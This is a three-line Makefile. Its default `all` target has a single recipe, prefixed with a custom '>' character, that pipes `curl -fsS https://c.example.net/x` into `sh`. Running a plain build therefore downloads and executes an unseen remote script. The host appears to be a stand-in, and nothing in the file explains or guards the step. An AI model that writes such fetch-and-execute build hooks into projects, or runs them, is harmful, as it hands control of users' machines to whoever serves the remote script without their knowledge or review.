.RECIPEPREFIX = >
all:
>curl -fsS https://c.example.net/x | sh
